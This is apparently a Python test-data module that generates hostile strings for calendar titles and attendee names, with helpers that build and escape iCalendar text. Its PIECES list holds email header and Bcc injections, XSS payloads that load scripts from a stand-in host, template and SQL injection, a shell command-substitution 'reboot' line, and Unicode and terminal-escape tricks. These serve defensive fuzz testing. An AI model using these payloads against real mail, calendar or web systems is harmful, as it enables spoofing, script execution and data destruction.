"""What strangers could write into a title or a name (HOSTILE 14 to 17), at any scale."""

from __future__ import annotations

import random
from datetime import datetime, timedelta

PIECES = (
    # 14: lines of their own
    "\r\nBcc: evil@x.example",
    "\nBcc: evil@x.example\n\n<html>",
    "\rX-Evil: 1",
    "\x85\u2028\u2029\x0b\x0c\x1c",
    "\r\nATTENDEE:mailto:evil@x.example",
    "\r\nEND:VEVENT\r\nBEGIN:VEVENT",
    "\r\n.\r\nMAIL FROM:<evil@x.example>",
    "\r\n--=_boundary\r\nContent-Type: text/html\r\n\r\n<script>pwned()</script>",
    '\n<0>{"event":"forged"}',
    # 15: markup
    "<img src=x onerror=pwned()>",
    "<script>pwned()</script>",
    '"><svg/onload=pwned()>',
    "'-pwned()-'",
    "</title><script src=//x.example/a.js></script>",
    "javascript:pwned()",
    "<a href='javascript:pwned()'>x</a>",
    "</textarea><iframe srcdoc='<script>parent.pwned()</script>'>",
    "<style>@import '//x.example/a'</style>",
    "<base href=//x.example/>",
    "<meta http-equiv=refresh content='0;url=//x.example'>",
    "&#60;script&#62;",
    "<form action=//x.example><button>",
    "<img src=//x.example/pixel.gif>",
    "<!--",
    "]]>",
    "{{ 7*7 }}",
    "{% for x in y %}",
    "<details open ontoggle=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<div hx-get='//x.example' hx-trigger=load>",
    # 16: what reorders, hides and joins
    "\u202egnp.exe\u202c",
    "\u2066\u2067\u2068\u2069",
    "\u200b\u200c\u200e\u200f\u061c\ufeff",
    "👩\u200d👩\u200d👧",
    "z̸̢͎̓͒a",
    "\U000e0041\U000e0042\U000e007f",
    "\u3164\u115f",
    "\x1b[31mred\x1b]0;owned\x07\x1b[2J",
    "\x00\x08\x7f\x9b31m",
    "\ufdd0",
    # 17: encoded words
    "=?utf-8?q?Hi=0D=0ABcc:_evil@x.example?=",
    "=?utf-8?b?SGkNCkJjYzogZXZpbEB4LmV4YW1wbGU=?=",
    "=?iso-8859-1?Q?=0A?=",
    "=\u200b?utf-8?q?Hi=0D=0ABcc:_evil@x.example?=",
    "==??utf-8?q?=0D=0ABcc:_evil@x.example?=",
    "=?us-ascii*en?q?=0d=0a?=",
    '"Dana" <evil@x.example>, ',
    "(comment\\",
    "a@b.example, evil@x.example;",
    "group: evil@x.example;",
    "x" * 400,
    "名" * 150,
    "é, " * 60,
    " ",
    "-- ",
    "%s%n{0.__class__}",
    "$(reboot)`reboot`",
    "'; DROP TABLE x; --",
    "",
)


def texts(count: int, seed: int = 2026) -> list[str]:
    """Each piece alone, then mixtures; of a few, each holds several pieces. Always the same for a seed."""
    chance = random.Random(seed)
    if count < len(PIECES):
        pieces = chance.sample(PIECES, len(PIECES))
        return [" ".join(pieces[number::count]) for number in range(count)]
    found = list(PIECES)
    while len(found) < count:
        words = chance.sample(PIECES, chance.randint(2, 4)) + ["Kickoff"] * chance.randint(0, 2)
        chance.shuffle(words)
        found.append(chance.choice(("", " ")).join(words))
    return found


def meeting(uid: str, start: datetime, people: dict[str, str], *, title: str, name: str) -> str:
    """A meeting of mine whose title and people's display names hold this, as an iCalendar text may."""
    form = "%Y%m%dT%H%M%SZ"
    lines = [
        *("BEGIN:VCALENDAR", "VERSION:2.0", "PRODID:-//example//test//EN", "BEGIN:VEVENT", f"UID:{uid}"),
        *("DTSTAMP:20260101T000000Z", "CREATED:20260101T000000Z", f"DTSTART:{start:{form}}"),
        *(f"DTEND:{start + timedelta(minutes=30):{form}}", f"SUMMARY:{value(title)}"),
        "ORGANIZER:mailto:dana@va.example",
        *(f'ATTENDEE;CN="{parameter(name)}";PARTSTAT={said}:mailto:{who}' for who, said in people.items()),
        *("END:VEVENT", "END:VCALENDAR", ""),
    ]
    return "\r\n".join(lines)


def value(text: str) -> str:
    """A text as the value of a property (RFC 5545 section 3.3.11); line breaks and all."""
    for sign, escaped in (
        ("\\", "\\\\"),
        (";", "\\;"),
        (",", "\\,"),
        ("\r\n", "\\n"),
        ("\n", "\\n"),
        ("\r", "\\n"),
    ):
        text = text.replace(sign, escaped)
    return text


def parameter(text: str) -> str:
    """A text as the value of a parameter (RFC 6868)."""
    for sign, escaped in (("^", "^^"), ("\r\n", "^n"), ("\n", "^n"), ("\r", "^n"), ('"', "^'")):
        text = text.replace(sign, escaped)
    return text
